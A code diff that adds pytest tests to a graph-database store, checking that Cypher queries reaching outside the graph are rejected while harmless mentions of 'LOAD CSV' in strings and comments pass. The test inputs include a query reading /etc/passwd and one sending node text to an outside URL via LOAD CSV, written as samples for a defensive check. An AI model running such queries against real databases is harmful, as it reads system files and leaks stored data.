@@ -91,6 +91,23 @@ def test_words_that_write_may_stand_in_a_text(store: EmbeddedStore) -> None:
 
 
 @pytest.mark.parametrize(
+    "cypher",
+    [
+        "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
+        "MATCH (p:Paragraph) LOAD /* so */ csv FROM 'https://example.org/?' + p.text AS line RETURN line",
+        "CALL apoc.load.json('https://example.org') YIELD value RETURN value",
+    ],
+)
+def test_a_query_cannot_reach_outside_the_graph(store: EmbeddedStore, cypher: str) -> None:
+    with pytest.raises(StoreError, match="reaches outside the graph"):
+        store.query(cypher)
+
+
+def test_words_that_reach_outside_may_stand_in_a_text_or_comment(store: EmbeddedStore) -> None:
+    assert store.query("RETURN 'LOAD CSV' AS words // LOAD CSV").rows == (("LOAD CSV",),)
+
+
+@pytest.mark.parametrize(
     ("cypher", "reason"),
     [
         ("MATCH (a RETURN a", "syntax error at line 1"),
